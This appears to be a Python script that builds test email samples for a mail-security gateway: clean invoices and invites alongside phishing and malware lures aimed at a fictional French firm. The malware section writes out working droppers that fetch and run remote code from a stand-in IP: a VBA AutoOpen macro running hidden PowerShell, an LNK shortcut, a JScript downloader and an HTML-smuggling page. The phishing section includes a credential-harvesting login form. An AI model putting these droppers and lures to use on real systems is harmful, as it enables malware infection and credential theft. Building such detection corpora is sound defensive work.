"""Write the samples that carry binary attachments (PDF, Office, images, archives).

Text-only samples are written by hand in samples/mail/; the ones here need
files built by a program (samples/tools/files.py), so they are generated,
then committed like the others. Run from the repository root:

    .venv/bin/python samples/tools/build_samples.py

It overwrites only the files it names below and prints each one.
"""

from __future__ import annotations

import base64
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import files
from mime import Leaf, Multi, attachment, message, text

MAIL = Path(__file__).resolve().parent.parent / "mail"
ORG_MX = "mx1.kerlann-industries.fr"


def received(helo: str, ip: str, rcpt: str, date: str, queue_id: str) -> str:
    """The organisation's MX hop, as the gateway writes it: the sender as seen from outside."""
    return (f"Received: from {helo} ({helo} [{ip}])\n"
            f"\tby {ORG_MX} (Rempart) with ESMTPS id {queue_id}\n"
            f"\tfor <{rcpt}>; {date}")


def dkim(domain: str, selector: str, seed: str) -> str:
    """A DKIM-Signature header of realistic shape; it cannot verify (offline, and not signed)."""
    filler = base64.b64encode((seed * 40).encode()).decode()
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s={selector};\n"
            f"\th=From:To:Subject:Date:Message-ID:MIME-Version:Content-Type;\n"
            f"\tbh={filler[:43]}=;\n\tb={filler[43:119]}\n\t {filler[119:195]}")


SAMPLES: dict[str, bytes] = {}


def sample(path: str):
    def register(build):
        SAMPLES[path] = build()
        return build
    return register


# -- clean ---------------------------------------------------------------------


@sample("clean/invoice-pdf-attachment-fr.eml")
def _invoice_pdf() -> bytes:
    invoice = files.pdf([
        "ELECTRICITE GUERIN SARL - 14 rue des Forges, 35760 Saint-Gregoire",
        "SIRET 000 000 000 00017 - TVA FR00 000000000",
        "",
        "FACTURE F2026-0412                                  Date : 13/11/2026",
        "Client : KERLANN INDUSTRIES - Entrepot de Rennes",
        "",
        "Remplacement de 24 reglettes LED quai 1 a 3 ........ 1 680,00 EUR HT",
        "Main d'oeuvre (2 techniciens, 1 jour) ................. 960,00 EUR HT",
        "",
        "Total HT : 2 640,00 EUR   TVA 20 % : 528,00 EUR   Total TTC : 3 168,00 EUR",
        "Reglement a 30 jours par virement, IBAN figurant sur nos conditions generales.",
    ], title="Facture F2026-0412")
    headers = f"""Return-Path: <compta@electricite-guerin.fr>
{received("mo4-p00-ob.smtp.rzone.de", "81.169.146.218", "comptabilite@kerlann-industries.fr", "Fri, 13 Nov 2026 17:05:41 +0100 (CET)", "4Xk0Pp1Qq2z9sFa")}
Received: from [192.168.1.23] (lfbn-ren-1-412-77.w86-222.abo.wanadoo.fr [86.222.19.77])
	by smtp.electricite-guerin.fr (Postfix) with ESMTPSA id 7A1C2E01B3
	for <comptabilite@kerlann-industries.fr>; Fri, 13 Nov 2026 17:05:39 +0100 (CET)
{dkim("electricite-guerin.fr", "default", "guerin")}
Message-ID: <a2f7c1e9-5b4d-4c3a-8e1f-0d9b7a6c5e42@electricite-guerin.fr>
Date: Fri, 13 Nov 2026 17:05:38 +0100
User-Agent: Mozilla Thunderbird
Content-Language: fr
From: =?UTF-8?Q?=C3=89lectricit=C3=A9_Gu=C3=A9rin_-_Comptabilit=C3=A9?= <compta@electricite-guerin.fr>
To: comptabilite@kerlann-industries.fr
Subject: Facture F2026-0412 - Remplacement eclairage quais"""
    body = Multi("mixed", "------------8kQ2nN5rZ0xV3cW7bT1yL4pA", [
        text("Bonjour,\n\nVeuillez trouver ci-joint notre facture F2026-0412 pour le remplacement "
             "de l'éclairage des quais 1 à 3, réalisé le 12 novembre.\n\nBonne réception,\n\n"
             "Nathalie Guérin\nÉlectricité Guérin SARL\n02 99 00 00 00\n"),
        attachment("application/pdf", "Facture_F2026-0412.pdf", invoice),
    ])
    return message(headers, body)


@sample("clean/docx-meeting-notes-attachment.eml")
def _docx() -> bytes:
    notes = files.docx([
        "Compte rendu - Comité logistique du 19 novembre 2026",
        "Présents : C. Roux, J. Morvan, M. Fontaine (Atelier Bretagne Conseil)",
        "1. Audit énergétique : relevés terminés, rapport attendu le 4 décembre.",
        "2. Quai 3 : imprimante d'étiquettes remplacée, à surveiller une semaine.",
        "3. Inventaire de fin d'année : comptage le 28 décembre, équipe de 6 personnes.",
        "Prochaine réunion : 17 décembre 2026, 10 h.",
    ], title="Compte rendu comité logistique", author="Manon Fontaine")
    headers = f"""Return-Path: <m.fontaine@atelier-bretagne-conseil.fr>
{received("mail-pr2fra01on2101.outbound.protection.outlook.com", "40.107.12.101", "camille.roux@kerlann-industries.fr", "Thu, 19 Nov 2026 18:12:09 +0100 (CET)", "4XkG7y8Xx9z9sEi")}
{dkim("atelier-bretagne-conseil.fr", "selector1", "abc-conseil")}
From: Manon Fontaine <m.fontaine@atelier-bretagne-conseil.fr>
To: Camille Roux <camille.roux@kerlann-industries.fr>
CC: Julien Morvan <julien.morvan@kerlann-industries.fr>
Subject: =?iso-8859-1?Q?Compte_rendu_comit=E9_logistique_du_19/11?=
Thread-Topic: =?iso-8859-1?Q?Compte_rendu_comit=E9_logistique_du_19/11?=
Thread-Index: AdtaB3k7m2+8vQ1NS5yJ9dVnZ4pQ3h==
Date: Thu, 19 Nov 2026 17:12:05 +0000
Message-ID: <PR3P264MB4217C3B1A9E2F8D7E0B5A6C71B92A1@PR3P264MB4217.FRAP264.PROD.OUTLOOK.COM>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Aptos,Calibri,sans-serif;font-size:11pt\"><p>Bonjour Camille,</p>"
            "<p>Voici le compte rendu du comité de ce matin. N'hésite pas à me dire si j'ai oublié quelque chose.</p>"
            "<p>Bonne soirée,<br>Manon</p><p style=\"color:#595959;font-size:9pt\">Manon Fontaine | Consultante énergie"
            "<br>Atelier Bretagne Conseil | <a href=\"https://www.atelier-bretagne-conseil.fr/\">www.atelier-bretagne-conseil.fr</a>"
            "</p></div></body></html>")
    body = Multi("mixed", "_004_PR3P264MB4217C3B1A9E2F8D7E0B5A6C71B92A1PR3P264MB4217FRAP_", [
        Multi("alternative", "_000_PR3P264MB4217C3B1A9E2F8D7E0B5A6C71B92A1PR3P264MB4217FRAP_", [
            text("Bonjour Camille,\n\nVoici le compte rendu du comité de ce matin. N'hésite pas à me dire "
                 "si j'ai oublié quelque chose.\n\nBonne soirée,\nManon\n"),
            text(html, "html"),
        ]),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                   "CR comite logistique 2026-11-19.docx", notes),
    ])
    return message(headers, body)


@sample("clean/apple-mail-photos.eml")
def _apple_photos() -> bytes:
    headers = f"""Return-Path: <antoine.lemaire@icloud.com>
{received("qs51p00im-qukt01080501.me.com", "17.57.155.22", "camille.roux@kerlann-industries.fr", "Sun, 15 Nov 2026 20:44:18 +0100 (CET)", "4Xk1Rr2Ss3z9sGb")}
{dkim("icloud.com", "1a1hai", "icloud-antoine")}
Content-Type: multipart/mixed;
	boundary="Apple-Mail=_6B1C4F0E-3A2D-4E8B-9C7F-1D5A0B2E8F63"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Photos de Quiberon
From: Antoine Lemaire <antoine.lemaire@icloud.com>
Date: Sun, 15 Nov 2026 20:44:05 +0100
Message-Id: <4E7B2C91-8D3F-4A6E-B5C1-0F9D2A8E7B34@icloud.com>
To: Camille Roux <camille.roux@kerlann-industries.fr>, Lucie Perrin <lucie.perrin.75@gmail.com>
X-Mailer: Apple Mail (2.3826.300.87.4.3)"""
    # Apple Mail writes the top-level Content-Type itself, above; render the parts below it.
    parts = [
        Leaf("text/plain", "Salut les filles,\n\nQuelques photos du week-end, les autres sont sur l'album partagé.\n"
             "Merci encore pour l'organisation !\n\nAntoine\n".encode(), "quoted-printable",
             "; charset=utf-8"),
        attachment("image/jpeg", "IMG_4821.jpeg", files.photo_jpeg(1), inline=True),
        attachment("image/jpeg", "IMG_4830.jpeg", files.photo_jpeg(2), inline=True),
        Leaf("text/plain", b"\n\n", "7bit", "; charset=us-ascii"),
    ]
    from mime import render_part

    boundary = "Apple-Mail=_6B1C4F0E-3A2D-4E8B-9C7F-1D5A0B2E8F63"
    body = b""
    for part in parts:
        body += f"--{boundary}\n".encode() + render_part(part) + b"\n"
    return headers.encode() + b"\n\n" + body + f"--{boundary}--\n".encode()


@sample("bulk/dmarc-aggregate-report.eml")
def _dmarc_report() -> bytes:
    report = """<?xml version="1.0" encoding="UTF-8" ?>
<feedback>
  <report_metadata>
    <org_name>google.com</org_name>
    <email>noreply-dmarc-support@google.com</email>
    <extra_contact_info>https://support.google.com/a/answer/2466580</extra_contact_info>
    <report_id>11774920563318820741</report_id>
    <date_range><begin>1795219200</begin><end>1795305599</end></date_range>
  </report_metadata>
  <policy_published>
    <domain>kerlann-industries.fr</domain><adkim>r</adkim><aspf>r</aspf><p>quarantine</p><sp>quarantine</sp><pct>100</pct>
  </policy_published>
  <record>
    <row><source_ip>40.107.12.101</source_ip><count>37</count>
      <policy_evaluated><disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated></row>
    <identifiers><header_from>kerlann-industries.fr</header_from></identifiers>
    <auth_results><dkim><domain>kerlann-industries.fr</domain><result>pass</result><selector>selector1</selector></dkim>
      <spf><domain>kerlann-industries.fr</domain><result>pass</result></spf></auth_results>
  </record>
</feedback>
"""
    name = "google.com!kerlann-industries.fr!1795219200!1795305599.xml"
    headers = f"""Return-Path: <3x3ZnZxoKCpAAB7x8H5kn7GF2Gb3.t5F5A0A5F8GJ.BCM7HBBHM.FR@dmarc-reports.bounces.google.com>
{received("mail-yb1-f202.google.com", "209.85.219.202", "dmarc@kerlann-industries.fr", "Wed, 18 Nov 2026 10:42:33 +0100 (CET)", "4Xk2Tt3Uu4z9sHc")}
{dkim("google.com", "20230601", "dmarc-google")}
MIME-Version: 1.0
Date: Tue, 17 Nov 2026 16:59:59 -0800
Message-ID: <11774920563318820741@google.com>
Subject: Report domain: kerlann-industries.fr Submitter: google.com Report-ID: 11774920563318820741
From: noreply-dmarc-support@google.com
To: dmarc@kerlann-industries.fr"""
    body = Multi("mixed", "000000000000a1b2c30627b4e5f6", [
        text("This is an aggregate report from google.com.\n\nReport domain: kerlann-industries.fr\n"
             "Submitter: google.com\nReport-ID: 11774920563318820741\n", encoding="7bit"),
        attachment("application/gzip", f"{name}.gz", files.gzip_bytes(name, report.encode())),
    ])
    return message(headers, body)


@sample("clean/google-calendar-invite.eml")
def _google_invite() -> bytes:
    ics = """BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20261127T130000Z
DTEND:20261127T140000Z
DTSTAMP:20261116T091203Z
ORGANIZER;CN=Priya Natarajan:mailto:priya.natarajan@lumafield-analytics.com
UID:4k2m9q7r1s3t5v8x0z6b4d2f1h@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=camille.roux@kerlann-industries.fr;X-NUM-GUESTS=0:mailto:camille.roux@kerlann-industries.fr
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE;CN=Priya Natarajan;X-NUM-GUESTS=0:mailto:priya.natarajan@lumafield-analytics.com
X-GOOGLE-CONFERENCE:https://meet.google.com/xqd-hmvr-kpt
DESCRIPTION:Demo of the stock forecasting dashboard for the Rennes warehouse.\\n\\nJoin with Google Meet: https://meet.google.com/xqd-hmvr-kpt
LOCATION:
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Kerlann x Lumafield - forecasting demo
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR
""".replace("\n", "\r\n")
    plain = ("Kerlann x Lumafield - forecasting demo\nFriday 27 November 2026 2pm - 3pm (Central European Time - Paris)\n\n"
             "Demo of the stock forecasting dashboard for the Rennes warehouse.\n\n"
             "Join with Google Meet: https://meet.google.com/xqd-hmvr-kpt\n\n"
             "Organizer: Priya Natarajan priya.natarajan@lumafield-analytics.com\n\n"
             "Reply for camille.roux@kerlann-industries.fr\n\nInvitation from Google Calendar: "
             "https://calendar.google.com/calendar/\n\nYou are receiving this email because you are an attendee on the event.\n")
    html = ("<div style=\"font-family:Roboto,Helvetica,Arial,sans-serif\"><h2 style=\"font-size:20px;font-weight:400\">"
            "Kerlann x Lumafield - forecasting demo</h2><p>Friday 27 November 2026 &middot; 2pm &ndash; 3pm (Central European Time - Paris)</p>"
            "<p><a href=\"https://meet.google.com/xqd-hmvr-kpt?hs=224\" style=\"background:#1a73e8;color:#fff;padding:10px 24px;"
            "border-radius:4px;text-decoration:none\">Join with Google Meet</a></p>"
            "<p>Demo of the stock forecasting dashboard for the Rennes warehouse.</p>"
            "<p>Organizer: Priya Natarajan</p><p><a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;"
            "eid=NGsybTlxN3IxczN0NXY4eDB6NmI0ZDJmMWggY2FtaWxsZS5yb3V4QGtlcmxhbm4taW5kdXN0cmllcy5mcg&amp;rst=1\">Yes</a> "
            "&middot; <a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid=NGsybTlxN3IxczN0NXY4eDB6Nm"
            "I0ZDJmMWggY2FtaWxsZS5yb3V4QGtlcmxhbm4taW5kdXN0cmllcy5mcg&amp;rst=2\">No</a></p>"
            "<p style=\"font-size:11px;color:#70757a\">Invitation from Google Calendar. You are receiving this email because "
            "you are an attendee on the event.</p></div>")
    headers = f"""Return-Path: <priya.natarajan@lumafield-analytics.com>
{received("mail-sor-f69.google.com", "209.85.220.69", "camille.roux@kerlann-industries.fr", "Mon, 16 Nov 2026 10:12:07 +0100 (CET)", "4Xk3Vv4Ww5z9sId")}
{dkim("lumafield-analytics.com", "google", "lumafield")}
MIME-Version: 1.0
Reply-To: Priya Natarajan <priya.natarajan@lumafield-analytics.com>
Sender: Google Calendar <calendar-notification@google.com>
Message-ID: <calendar-6f2d8e1b-4c7a-4b9e-a3d5-1e0f9c8b7a62@google.com>
Date: Mon, 16 Nov 2026 09:12:03 +0000
Subject: Invitation: Kerlann x Lumafield - forecasting demo @ Fri 27 Nov 2026 14:00 - 15:00 (CET) (camille.roux@kerlann-industries.fr)
From: Priya Natarajan <priya.natarajan@lumafield-analytics.com>
To: camille.roux@kerlann-industries.fr"""
    body = Multi("mixed", "000000000000c7d8e90627b501a2", [
        Multi("alternative", "000000000000c7d8e70627b501a0", [
            text(plain),
            text(html, "html"),
            Leaf("text/calendar", ics.encode(), "7bit", '; charset="UTF-8"; method=REQUEST'),
        ]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"'),
    ])
    return message(headers, body)


# -- phishing ------------------------------------------------------------------


@sample("phishing/qr-code-mfa-reenrolment.eml")
def _qr_phish() -> bytes:
    url = "https://mfa-kerlann-industries.sso-auth-portal.top/enroll?u=Y2FtaWxsZS5yb3V4QGtlcmxhbm4taW5kdXN0cmllcy5mcg"
    html = ("<html><body style=\"font-family:Segoe UI,Arial,sans-serif;color:#222\">"
            "<p><b>Action required: Multi-Factor Authentication re-enrolment</b></p>"
            "<p>Dear camille.roux,</p><p>Your Microsoft 365 multi-factor authentication settings expire today. "
            "To avoid losing access to your mailbox, Teams and OneDrive, scan the QR code below with your phone camera "
            "and complete the re-enrolment within 24 hours.</p>"
            "<p><img src=\"cid:qr.4f2a9c@kerlann\" width=\"180\" height=\"180\" alt=\"\"></p>"
            "<p>Do not reply to this message.<br>IT Service Desk - kerlann-industries.fr</p></body></html>")
    headers = f"""Return-Path: <support@mdcprojects-au.com>
{received("mail.mdcprojects-au.com", "103.224.182.61", "camille.roux@kerlann-industries.fr", "Mon, 23 Nov 2026 07:48:11 +0100 (CET)", "4XkH8z9Yy0z9sJe")}
From: "IT Service Desk kerlann-industries.fr" <support@mdcprojects-au.com>
To: camille.roux@kerlann-industries.fr
Subject: ACTION REQUIRED: MFA re-enrolment for camille.roux@kerlann-industries.fr (ref 59317)
Date: Mon, 23 Nov 2026 06:48:02 +0000
Message-ID: <20261123064802.7F3A1B2C@mdcprojects-au.com>
X-Priority: 1 (Highest)
Importance: high"""
    body = Multi("related", "----=_NextPart_000_0017_01DB3D1A.5C6E8F20", [
        text(html, "html"),
        attachment("image/png", "qrcode.png", files.qr_png(url), inline=True, cid="qr.4f2a9c@kerlann"),
    ], params=' type="text/html";')
    return message(headers, body)


@sample("phishing/html-attachment-login-form.eml")
def _html_login() -> bytes:
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Sign in to your account</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2}.box{width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:6px 0;border:0;border-bottom:1px solid #666;margin:12px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style>
</head><body><div class="box">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108" alt="Microsoft">
<h2>Sign in to view the remittance</h2>
<p>The document is protected. Confirm your email password to continue.</p>
<form method="POST" action="https://www.bodega-lasrosas.com.mx/wp-includes/css/auth/next.php">
<input type="email" name="login" value="camille.roux@kerlann-industries.fr" readonly>
<input type="password" name="passwd" placeholder="Password" required autofocus>
<input type="hidden" name="src" value="remit">
<button type="submit">Sign in</button>
</form></div></body></html>
"""
    headers = f"""Return-Path: <accounts@harbourline-freight-uk.com>
{received("vps-3f9a1c.contaboserver.net", "185.217.98.14", "comptabilite@kerlann-industries.fr", "Tue, 24 Nov 2026 09:02:51 +0100 (CET)", "4XkJ9a0Zz1z9sKf")}
From: Harbourline Freight Accounts <accounts@harbourline-freight-uk.com>
To: comptabilite@kerlann-industries.fr
Subject: Remittance Advice - Payment INV-88213 released
Date: Tue, 24 Nov 2026 08:02:47 +0000
Message-ID: <7c1e0a9b3f2d4e5a8b6c@harbourline-freight-uk.com>
X-Mailer: Microsoft Outlook 16.0"""
    body = Multi("mixed", "----=_Part_88213_1795939367", [
        text("Hello,\n\nPlease find attached the remittance advice for payment INV-88213 released today.\n"
             "Open the attachment in your browser to view it.\n\nRegards,\nAccounts Payable\nHarbourline Freight Ltd\n"),
        attachment("text/html", "Remittance_Advice_INV-88213.html", page.encode()),
    ])
    return message(headers, body)


@sample("phishing/voicemail-html-attachment-redirect.eml")
def _voicemail() -> bytes:
    target = base64.b64encode(b"https://voicemail-kerlann.azurewebsites.cloud-listen.xyz/vm/?id=").decode()
    page = f"""<html><head><meta charset="utf-8"><title>Voice Message</title></head>
<body><p>Loading your voice message, please wait...</p>
<script>
var e = "camille.roux@kerlann-industries.fr";
var t = atob("{target}");
setTimeout(function() {{ window.location.href = t + btoa(e); }}, 300);
</script></body></html>
"""
    headers = f"""Return-Path: <noreply@kurumsal-teklif.com.tr>
{received("srv4.kurumsal-teklif.com.tr", "94.73.148.200", "camille.roux@kerlann-industries.fr", "Wed, 18 Nov 2026 13:27:40 +0100 (CET)", "4XkK0b1Aa2z9sLg")}
From: "Voicemail Service" <noreply@kurumsal-teklif.com.tr>
To: camille.roux@kerlann-industries.fr
Subject: =?UTF-8?B?8J+UiiBOZXcgVm9pY2VtYWlsIGZyb20gKzMzIDIgOTkgKioqICoqIDQ3IC0gMDA6NDc=?=
Date: Wed, 18 Nov 2026 12:27:36 +0000
Message-ID: <VM.20261118122736.51877@kurumsal-teklif.com.tr>"""
    html = ("<html><body style=\"font-family:Arial,sans-serif\"><table style=\"border:1px solid #ccc;padding:16px\">"
            "<tr><td><b>You received a new voice message</b></td></tr><tr><td>Caller: +33 2 99 *** ** 47</td></tr>"
            "<tr><td>Duration: 00:47</td></tr><tr><td>Received: 18/11/2026 13:24</td></tr>"
            "<tr><td>Open the attached audio file to listen.</td></tr></table></body></html>")
    body = Multi("mixed", "b1_3f8e2a9c7d1b4e6f0a5c", [
        text(html, "html"),
        attachment("text/html", "VM_Message_0047_audio.htm", page.encode()),
    ])
    return message(headers, body)


@sample("phishing/pdf-attachment-link-docusign.eml")
def _pdf_phish() -> bytes:
    document = files.pdf([
        "DocuSign Envelope ID: 7B3D1E9A-4C2F-4A8B-9E6D-1F0C3B5A7E29",
        "",
        "Kerlann Industries - Revised Supplier Agreement 2027",
        "",
        "You have received a document to review and sign.",
        "Please click REVIEW DOCUMENT below and sign in with your email account",
        "to access the secure document.",
    ], link=("https://kerlann-docs.blob.core.windows.net.review-secure.online/dsign/index.html",
             (56, 600, 260, 640)), title="Completed: Supplier Agreement 2027")
    headers = f"""Return-Path: <contact@boulangerie-pichon.fr>
{received("ssl0.ovh.net", "193.70.18.144", "achats@kerlann-industries.fr", "Thu, 19 Nov 2026 11:16:05 +0100 (CET)", "4XkL1c2Bb3z9sMh")}
From: "DocuSign via Kerlann Legal" <contact@boulangerie-pichon.fr>
To: achats@kerlann-industries.fr
Subject: Completed: Please DocuSign: Revised Supplier Agreement 2027.pdf
Date: Thu, 19 Nov 2026 10:16:01 +0000
Message-ID: <b4e7a1c2d3f5@boulangerie-pichon.fr>"""
    body = Multi("mixed", "----=_NextPart_001_0A2B_01DB3A51.9E7C4D10", [
        text("Please review and sign the attached agreement.\n\nThis message was sent to you by Kerlann Legal "
             "who is using the DocuSign Electronic Signature Service.\n"),
        attachment("application/pdf", "Supplier_Agreement_2027.pdf", document),
    ])
    return message(headers, body)


# -- malware -------------------------------------------------------------------


def _malware_headers(sender: str, helo: str, ip: str, subject: str, name: str, queue_id: str,
                     rcpt: str = "comptabilite@kerlann-industries.fr") -> str:
    domain = sender.rpartition("@")[2]
    return f"""Return-Path: <{sender}>
{received(helo, ip, rcpt, "Tue, 24 Nov 2026 10:31:12 +0100 (CET)", queue_id)}
From: {name} <{sender}>
To: {rcpt}
Subject: {subject}
Date: Tue, 24 Nov 2026 09:31:08 +0000
Message-ID: <{queue_id.lower()}.{len(subject)}@{domain}>"""


@sample("malware/eicar-raw-attachment.eml")
def _eicar_raw() -> bytes:
    headers = _malware_headers("it-tests@securite-informatique-rennes.fr", "mail.securite-informatique-rennes.fr",
                               "51.91.10.33", "Test antivirus passerelle", "Test Antivirus", "4XkM2d3Cc4z9sNi")
    body = Multi("mixed", "=_eicar_raw_7f3a", [
        text("Fichier de test EICAR ci-joint (test de la passerelle antivirus).\n"),
        attachment("application/octet-stream", "eicar.com", files.EICAR),
    ])
    return message(headers, body)


@sample("malware/eicar-in-zip.eml")
def _eicar_zip() -> bytes:
    headers = _malware_headers("billing@fastinvoice-services.com", "smtp.fastinvoice-services.com", "45.137.21.9",
                               "Invoice #INV-2026-44817 overdue", "Billing Department", "4XkN3e4Dd5z9sOj")
    body = Multi("mixed", "=_eicar_zip_1b9c", [
        text("Dear customer,\n\nYour invoice INV-2026-44817 is overdue. Details are in the attached archive.\n\nBilling\n"),
        attachment("application/zip", "INV-2026-44817.zip", files.zip_archive([("INV-2026-44817.com", files.EICAR)])),
    ])
    return message(headers, body)


@sample("malware/eicar-in-nested-zip.eml")
def _eicar_nested() -> bytes:
    inner = files.zip_archive([("scan_0047.com", files.EICAR)])
    outer = files.zip_archive([("documents/scan_0047.zip", inner), ("documents/readme.txt", b"See the scan.\r\n")])
    headers = _malware_headers("scanner@printhub-office.net", "mx.printhub-office.net", "193.233.20.7",
                               "Scanned document from MFP-0047", "MFP Scanner", "4XkP4f5Ee6z9sPk")
    body = Multi("mixed", "=_eicar_nested_5d2e", [
        text("Scanned from MFP-0047.\nPages: 3\nFormat: ZIP\n"),
        attachment("application/zip", "scan_0047.zip", outer),
    ])
    return message(headers, body)


@sample("malware/double-extension-pdf-exe.eml")
def _double_extension() -> bytes:
    headers = _malware_headers("facturation@groupe-atlantique-transports.com", "mail.groupe-atlantique-transports.com",
                               "91.215.85.142", "=?UTF-8?Q?Facture_impay=C3=A9e_n=C2=B0_FA-2026-3318?=",
                               "Service Facturation", "4XkQ5g6Ff7z9sQl")
    body = Multi("mixed", "=_dblext_8c4f", [
        text("Bonjour,\n\nSauf erreur de notre part, la facture FA-2026-3318 ci-jointe reste impayée.\n"
             "Merci de procéder au règlement sous 48 heures.\n\nCordialement,\nService Facturation\n"),
        attachment("application/pdf", "Facture_FA-2026-3318.pdf.exe", files.pe_stub()),
    ])
    return message(headers, body)


@sample("malware/iso-disc-image-attachment.eml")
def _iso() -> bytes:
    image = files.iso_image([("DHL_AWB_7734120985.exe", files.pe_stub())], volume="DHL_DOCS")
    headers = _malware_headers("noreply@dhl-express-docs.com", "vm2744.hosted-by-ipxo.net", "176.113.115.87",
                               "DHL Express - Shipping documents AWB 7734120985", "DHL Express", "4XkR6h7Gg8z9sRm",
                               rcpt="achats@kerlann-industries.fr")
    body = Multi("mixed", "=_iso_2a7b", [
        text("Dear customer,\n\nYour shipment AWB 7734120985 is on hold at customs. Please open the attached "
             "shipping documents, check the invoice and confirm the delivery address.\n\nDHL Express\n"),
        attachment("application/octet-stream", "DHL_AWB_7734120985.iso", image),
    ])
    return message(headers, body)


MACRO = '''Attribute VB_Name = "ThisDocument"
Attribute VB_Base = "1Normal.ThisDocument"
Attribute VB_GlobalNameSpace = False
Attribute VB_Creatable = False
Attribute VB_PredeclaredId = True
Attribute VB_Exposed = True
Attribute VB_TemplateDerived = True
Attribute VB_Customizable = True
Sub AutoOpen()
    Document_Open
End Sub

Sub Document_Open()
    Dim cmd As String
    cmd = "powershell -nop -w hidden -ep bypass -c " & Chr(34) & _
          "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/stage2.ps1')" & Chr(34)
    CreateObject("WScript.Shell").Run cmd, 0, False
End Sub
'''


@sample("malware/office-macro-autoopen.eml")
def _macro() -> bytes:
    document = files.docx(["Bon de commande PO-7781", "Activez le contenu pour afficher le document protégé."],
                          title="Bon de commande PO-7781", author="Admin", macro=MACRO)
    headers = _malware_headers("commandes@tanneries-vidal-fr.com", "mail.tanneries-vidal-fr.com", "62.233.50.18",
                               "Bon de commande PO-7781 - urgent", "Sophie Vidal", "4XkS7i8Hh9z9sSn",
                               rcpt="achats@kerlann-industries.fr")
    body = Multi("mixed", "=_macro_6e1d", [
        text("Bonjour,\n\nVeuillez trouver notre bon de commande PO-7781. Merci d'activer la modification et le "
             "contenu pour afficher le document.\n\nSophie Vidal\nTanneries Vidal\n"),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Bon_de_commande_PO-7781.docm", document),
    ])
    return message(headers, body)


@sample("malware/lnk-in-zip.eml")
def _lnk() -> bytes:
    shortcut = files.lnk_shortcut(
        r"..\..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-w hidden -nop -c \"iwr http://198.51.100.77/p.ps1 -UseBasicParsing | iex\"")
    archive = files.zip_archive([("Scan_Contrat_2026.pdf.lnk", shortcut)])
    headers = _malware_headers("j.morel@cabinet-morel-avocats.fr", "mail.cabinet-morel-avocats.fr", "185.244.25.61",
                               "Contrat de bail - version signee", "Maitre J. Morel", "4XkT8j9Ii0z9sTo")
    body = Multi("mixed", "=_lnk_9b3c", [
        text("Bonjour,\n\nVous trouverez le contrat signé dans l'archive jointe.\n\nBien à vous,\nJ. Morel\n"),
        attachment("application/zip", "Contrat_2026.zip", archive),
    ])
    return message(headers, body)


@sample("malware/javascript-dropper-in-zip.eml")
def _js_zip() -> bytes:
    script = (b"var s = new ActiveXObject('WScript.Shell');\r\n"
              b"var f = s.ExpandEnvironmentStrings('%TEMP%') + '\\\\upd.exe';\r\n"
              b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://198.51.100.77/upd.bin', false); x.send();\r\n"
              b"var b = new ActiveXObject('ADODB.Stream'); b.Type = 1; b.Open(); b.Write(x.responseBody);\r\n"
              b"b.SaveToFile(f, 2); s.Run(f, 0);\r\n")
    archive = files.zip_archive([("Payment_details_2611.js", script)])
    headers = _malware_headers("payments@northbridge-capital.co", "mail.northbridge-capital.co", "45.95.169.114",
                               "Payment confirmation 26/11", "Payments Team", "4XkU9k0Jj1z9sUp")
    body = Multi("mixed", "=_jszip_4a8e", [
        text("Hi,\n\nPayment has been processed. See the attached payment details.\n\nThanks\n"),
        attachment("application/zip", "Payment_details_2611.zip", archive),
    ])
    return message(headers, body)


@sample("malware/html-smuggling-zip-dropper.eml")
def _smuggling() -> bytes:
    payload = files.zip_archive([("Facture_2026-1187.js", b"new ActiveXObject('WScript.Shell').Run('calc.exe');\r\n")])
    blob = base64.b64encode(payload).decode()
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Facture</title></head>
<body><p>Chargement du document...</p>
<script>
function b64(s){{var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a;}}
var d = b64("{blob}");
var blob = new Blob([d], {{type: "application/zip"}});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob);
a.download = "Facture_2026-1187.zip";
document.body.appendChild(a);
a.click();
</script></body></html>
"""
    headers = _malware_headers("compta@sarl-batiouest.fr", "mail.sarl-batiouest.fr", "80.66.88.204",
                               "Facture 2026-1187", "Comptabilite BatiOuest", "4XkV0l1Kk2z9sVq")
    body = Multi("mixed", "=_smuggle_3c7f", [
        text("Bonjour,\n\nCi-joint la facture 2026-1187. Ouvrez le fichier dans votre navigateur.\n\nCordialement\n"),
        attachment("text/html", "Facture_2026-1187.html", page.encode()),
    ])
    return message(headers, body)


def main() -> None:
